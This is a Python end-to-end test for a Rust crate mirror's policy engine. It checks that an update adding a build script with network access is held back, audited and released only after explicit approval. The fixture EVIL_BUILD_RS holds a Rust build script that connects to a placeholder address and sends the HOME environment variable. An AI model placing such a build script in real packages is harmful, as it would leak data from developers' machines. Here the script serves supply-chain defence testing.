"""The "evil update": version N is approved, N+1 adds a build script that opens a socket.
Real cargo stays on N with the reason in the audit log; after `approve` it moves to N+1."""

from __future__ import annotations

import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest

from mirror.audit import read_events
from tests.cargo_project import CargoProject
from tests.fixtures.registry import Registry
from tests.fixtures.upstream import FakeUpstream
from tests.mirror_process import MirrorProcess

pytestmark = pytest.mark.e2e

EVIL_BUILD_RS = b"""\
use std::io::Write;
use std::net::TcpStream;

fn main() {
    if let Ok(mut s) = TcpStream::connect("203.0.113.7:443") {
        let _ = s.write_all(std::env::var("HOME").unwrap_or_default().as_bytes());
    }
}
"""

POLICY = """\
version: 2
rules:
  capabilities: {mode: block, lock: capabilities.lock.yaml, first_seen: trust}
"""


def _wait_for(predicate: Callable[[], bool], timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "condition not reached"
        time.sleep(0.3)


def test_evil_update_is_held_back_until_approved(tmp_path: Path, debian_registry: Registry) -> None:
    debian_registry.add_crate(
        "tinyhelper", "1.0.0", {"src/lib.rs": b"pub fn add(a: u8, b: u8) -> u8 { a + b }\n"}
    )
    policy_dir = tmp_path / "policies"
    policy_dir.mkdir()
    policy = policy_dir / "policy.yaml"
    policy.write_text(POLICY)
    lock = policy_dir / "capabilities.lock.yaml"
    cache = tmp_path / "cache"
    with FakeUpstream(debian_registry).in_thread() as upstream:
        mirror = MirrorProcess(
            cache,
            upstream=upstream.url + "/",
            policy=policy,
            env={"CRATE_MIRROR_INDEX_TTL": "0"},
        ).start()
        try:
            project = CargoProject(tmp_path / "app", mirror.index_url, {"tinyhelper": "1"})
            assert project.generate_lockfile().returncode == 0
            assert project.fetch().returncode == 0
            # Trust on first use recorded version N, in the cache (never the checkout's lock),
            # once its scan, which the answer did not wait for, was done.
            tofu = cache / "state" / "capabilities.tofu.yaml"
            _wait_for(lambda: tofu.exists() and "tinyhelper" in tofu.read_text())
            assert not lock.exists()
            _wait_for(
                lambda: any(
                    e.get("action") == "approve" and e.get("crate") == "tinyhelper"
                    for e in read_events(cache / "audit")
                )
            )  # and the lock change is on the audit record

            debian_registry.add_crate(
                "tinyhelper",
                "1.0.1",
                {
                    "build.rs": EVIL_BUILD_RS,
                    "src/lib.rs": b"pub fn add(a: u8, b: u8) -> u8 { a + b }\n",
                },
            )
            result = project.run("update")
            assert result.returncode == 0, result.stderr
            assert project.lock_versions()["tinyhelper"] == ["1.0.0"]

            def blocks() -> list[dict[str, str]]:
                return [
                    e
                    for e in read_events(cache / "audit")
                    if e.get("crate") == "tinyhelper" and e.get("action") == "block"
                ]

            _wait_for(lambda: bool(blocks()))  # the audit writer flushes in batches
            assert blocks()[0]["version"] == "1.0.1"
            assert "adds: build_script (build.rs" in blocks()[0]["reason"]
            assert "net (build.rs" in blocks()[0]["reason"]

            # A direct download of the held-back version explains itself and how to approve.
            url = mirror.url + "/api/v1/crates/tinyhelper/1.0.1/download"
            with pytest.raises(urllib.error.HTTPError) as info:
                urllib.request.urlopen(url, timeout=10)
            assert info.value.code == 403
            body = info.value.read().decode()
            assert "crate-mirror approve tinyhelper@1.0.1" in body

            approve = subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "mirror",
                    "approve",
                    "tinyhelper@1.0.1",
                    "--caps",
                    "build_script,net,env",
                    "--reason",
                    "reviewed: telemetry, SEC-42",
                    "--lock",
                    str(lock),
                    "--audit-dir",
                    str(cache / "audit"),
                    "--cache-dir",
                    str(cache),
                ],
                capture_output=True,
                text=True,
                check=False,
            )
            assert approve.returncode == 0, approve.stderr

            def moved() -> bool:
                project.run("update")
                return project.lock_versions()["tinyhelper"] == ["1.0.1"]

            _wait_for(moved)
        finally:
            mirror.stop()
